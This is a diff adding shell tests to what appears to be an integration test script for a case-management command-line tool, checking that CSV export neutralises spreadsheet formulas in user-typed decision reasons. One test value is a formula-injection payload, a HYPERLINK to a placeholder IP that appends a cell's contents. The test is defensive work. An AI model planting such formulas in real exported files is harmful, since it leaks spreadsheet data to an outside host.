@@ -212,6 +212,16 @@ assert similar["domain"] not in blocked, blocked
 c = candidates[similar["domain"]]
 assert (c["decision"], c["decided_by"], c["decision_reason"]) == ("rejected", "tester", "test"), c
 PY
+# A decision's reason is typed by a person and listed in CSV: a formula in it is written inert
+# (leading '), unless --csv-raw.
+formula='=HYPERLINK("http://198.51.100.9/?"&A1,"x")'
+"$bin" case reject "$second" --case "$tmp/decided" --by tester --why "$formula" >/dev/null || fail "case reject (formula)"
+"$bin" case candidates --case "$tmp/decided" -f csv >"$tmp/candidates.csv" || fail "case candidates -f csv"
+grep -qF "\"'=HYPERLINK(\"\"http://198.51.100.9/?\"\"&A1,\"\"x\"\")\"" "$tmp/candidates.csv" ||
+  fail "case candidates -f csv: formula not neutralised: $(grep -F HYPERLINK "$tmp/candidates.csv")"
+"$bin" case candidates --case "$tmp/decided" -f csv --csv-raw >"$tmp/candidates-raw.csv" || fail "case candidates --csv-raw"
+grep -qF "\"=HYPERLINK(\"\"http://198.51.100.9/?\"\"&A1,\"\"x\"\")\"" "$tmp/candidates-raw.csv" ||
+  fail "case candidates --csv-raw: $(grep -F HYPERLINK "$tmp/candidates-raw.csv")"
 
 # The demo's report.html in headless Chromium: loads without errors or requests, its numbers equal
 # the case store's (counted here with SQL on case.sqlite), the graph renders; screenshot kept.
